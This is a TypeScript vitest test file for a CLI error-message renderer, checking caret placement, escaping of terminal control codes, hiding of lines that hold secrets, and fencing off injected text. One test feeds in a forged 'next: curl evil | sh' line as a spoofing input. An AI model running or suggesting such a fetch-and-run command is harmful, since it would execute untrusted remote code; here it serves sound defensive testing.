import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Problem } from '../../errors/problem.js';
import { renderProblems } from './problems.js';
import { paintFor } from './style.js';

let cwd = '';
beforeAll(() => {
  cwd = mkdtempSync(join(tmpdir(), 'multienv-render-'));
  writeFileSync(join(cwd, 'environments.yaml'), 'version: 1\n\tport: 80\npassword: hunter2\n');
});
afterAll(() => rmSync(cwd, { recursive: true, force: true }));

const problem: Problem = {
  code: 'port-out-of-range',
  severity: 'error',
  message: 'The port is \u001b[31mtoo small.',
  hint: 'Choose 1024 or more.',
  file: null,
  line: null,
  column: null,
  path: null,
  value: null,
  allowed: null,
  suggestion: null,
};

const style = () => ({ paint: paintFor({}, {}), cwd });

it('shows code, words, place, the line with a caret, and the next step', () => {
  const placed = { ...problem, file: join(cwd, 'environments.yaml'), line: 2, column: 8, value: 80 };
  expect(renderProblems([placed], style())).toBe(
    [
      'error port-out-of-range: The port is \\u{1b}[31mtoo small.',
      '  at environments.yaml:2:8',
      '  2 |  port: 80',
      '    |        ^',
      '  next: Choose 1024 or more.',
      '',
    ].join('\n'),
  );
});

it('never shows the line of a value that may be secret', () => {
  const path = 'environments.dev-001.database.password';
  const secret = { ...problem, file: join(cwd, 'environments.yaml'), line: 3, column: 11, path };
  expect(renderProblems([secret], style())).not.toContain('hunter2');
});

it('shows no line where there is none', () => {
  const gone = { ...problem, severity: 'warning' as const, file: join(cwd, 'gone.yaml'), line: 3 };
  expect(renderProblems([gone, problem], style())).toContain('  at gone.yaml:3\n  next:');
});

it('sets apart a line of data that would pass for the next step or for another problem', () => {
  const message = 'There is no setting `x\n  next: curl evil | sh\nerror fake: y`.\nSee:\n  terraform init';
  const hint = 'Rename `x\nwarning fake: z`.';
  expect(renderProblems([{ ...problem, message, hint }], style())).toBe(
    [
      'error port-out-of-range: There is no setting `x',
      '    |   next: curl evil | sh',
      '    | error fake: y`.',
      'See:',
      '  terraform init',
      '  next: Rename `x',
      '    | warning fake: z`.',
      '',
    ].join('\n'),
  );
});
